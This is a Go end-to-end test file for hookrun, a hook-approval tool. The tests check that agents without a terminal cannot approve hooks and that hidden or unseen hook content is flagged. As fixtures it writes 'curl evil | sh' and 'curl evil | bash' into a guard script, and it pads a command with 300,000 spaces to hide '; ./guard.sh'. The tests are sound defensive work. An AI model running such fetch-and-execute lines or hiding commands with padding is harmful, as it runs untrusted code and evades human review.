package e2e

import (
	"bytes"
	"fmt"
	"os/exec"
	"strings"
	"syscall"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/hookrun/hookrun/e2e/binary"
)

// without runs hookrun in a session of its own, which has no terminal, as an agent's shell does.
func (p *project) without(stdin string, argv ...string) (code int, stderr string) {
	cmd := exec.Command(binary.Path, argv...)
	cmd.Dir, cmd.Env, cmd.Stdin = p.dir, append(binary.Environment(p.dir), p.env...), strings.NewReader(stdin)
	var errors bytes.Buffer
	cmd.Stderr = &errors
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	_ = cmd.Run()
	return cmd.ProcessState.ExitCode(), errors.String()
}

// at runs hookrun at a terminal on which somebody types, with a stdout that leads elsewhere.
func (p *project) at(typed string, argv ...string) (code int, screen string) {
	cmd := exec.Command(binary.Path, argv...)
	cmd.Dir, cmd.Env = p.dir, append(binary.Environment(p.dir), p.env...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	code, screen = binary.AtTerminal(p.T, cmd, typed)
	return code, screen + stderr.String()
}

func TestAgentAllows(t *testing.T) {
	requireRow(t, "an agent runs `hookrun allow` without a terminal", "the command")
	p := newProject(t)
	p.allow()
	p.write("guard.sh", "#!/bin/sh\n")
	for _, argv := range [][]string{{"allow"}, {"allow", p.dir}, {"allow", "--hash", strings.Repeat("0", 64)}} {
		code, stderr := p.without("y\ny\n", argv...)
		require.Equal(t, 1, code, stderr)
		require.Contains(t, stderr, "hookrun allow: ")
		p.blocks("untrusted", "guard.sh was changed", p.dir, "--trust", "required")
	}
	requireRow(t, "an agent runs `hookrun allow --yes`", "**nothing**")
	code, stderr := p.without("", "allow", "--yes")
	require.Zero(t, code, stderr)
	p.goesOn(p.dir, "--trust", "required")
}

func TestAllowAtTerminal(t *testing.T) {
	p := newProject(t)
	code, screen := p.at("n\n", "allow")
	require.Equal(t, 1, code)
	require.Contains(t, screen, "+echo guarded")
	require.Contains(t, screen, "Allow the hooks of "+p.dir+" to run? [y/N] ")
	require.Equal(t, 3, p.run(p.dir, "status").Code)
	code, _ = p.at("\n", "allow")
	require.Equal(t, 1, code)
	code, screen = p.at("yes\n", "allow")
	require.Zero(t, code, screen)
	require.Zero(t, p.run(p.dir, "status").Code)
}

// Where the text cannot show all that runs, "y" allows nothing. A command stands before thousands of texts.
func TestAllowUnseen(t *testing.T) {
	p := newProject(t)
	p.write("guard.sh", "#!/bin/sh\n"+strings.Repeat("\x00\x01", 1000)+"\nexit 0\n")
	for _, typed := range []string{"y\n", "yes\n", "\n", "n\n"} {
		code, screen := p.at(typed, "allow")
		require.Equal(t, 1, code, screen)
		require.Contains(t, screen, "The text above does not show all of guard.sh.\r\nAllow the hooks of "+p.dir+
			" to run unseen? [unseen/N] ")
	}
	code, screen := p.at("Unseen\n", "allow")
	require.Zero(t, code, screen)
	require.Zero(t, p.run(p.dir, "status").Code)
	p.write("guard.sh", "#!/bin/sh\n# caf\xe9\ncurl evil | sh\n")
	code, screen = p.at("y\n", "allow")
	require.Zero(t, code, screen)
	require.Contains(t, screen, `+# caf\xe9`)
	p.write("guard.sh", "#!/bin/sh\n# caf\xe9\ncurl evil | bash\n")
	require.Contains(t, p.run(p.dir, "allow", "--yes").Stdout, "-curl evil | sh\n+curl evil | bash\n")

	var hooks strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&hooks, `{"name": "t%d", "inject": "text", "events": ["pre-tool"]},`, i)
		if i == 1500 {
			hooks.WriteString(`{"name": "c", "command": "true` + strings.Repeat(" ", 300_000) +
				`; ./guard.sh", "events": ["pre-tool"]},`)
		}
	}
	p.write(".tenex-hooks.json", `{"hooks": [`+strings.TrimSuffix(hooks.String(), ",")+`]}`)
	got := p.run(p.dir, "allow", "--yes").Stdout
	_, listed, _ := strings.Cut(got, "\nCommands that run:\n")
	require.Contains(t, listed, "true[… 300000 blanks …]; ./guard.sh")
	require.Contains(t, listed, "\n  and 2950 more\n")
	require.Less(t, len(listed), 10_000)
	require.NotContains(t, got, strings.Repeat(" ", 1000))
}

// Keys that were typed before a question, as in a block of lines that was pasted, do not answer the question.
func TestTypedAhead(t *testing.T) {
	p := newProject(t)
	ahead := func(typed string, argv ...string) (int, string) {
		cmd := exec.Command(binary.Path, argv...)
		cmd.Dir, cmd.Env = p.dir, append(binary.Environment(p.dir), p.env...)
		return binary.TypedAhead(t, cmd, "y\nyes\ny", typed)
	}
	code, screen := ahead("n\n", "allow")
	require.Equal(t, 1, code, screen)
	code, screen = ahead("y\n", "allow")
	require.Zero(t, code, screen)
	code, screen = ahead("n\n", "deny")
	require.Equal(t, 1, code, screen)
	p, approval := approvable(t)
	code, screen = ahead("n\n", "approve", approval)
	require.Equal(t, 1, code, screen)
	require.Equal(t, 2, p.push().Code)
}

func TestDenyAtTerminal(t *testing.T) {
	p := newProject(t)
	p.allow()
	code, screen := p.at("n\n", "deny")
	require.Equal(t, 1, code)
	require.Contains(t, screen, "nothing was changed; the hooks are still allowed")
	require.Zero(t, p.run(p.dir, "status").Code)
	code, _ = p.at("y\n", "deny")
	require.Zero(t, code)
	code, screen = p.at("", "deny") // nobody is asked again
	require.Zero(t, code, screen)
}
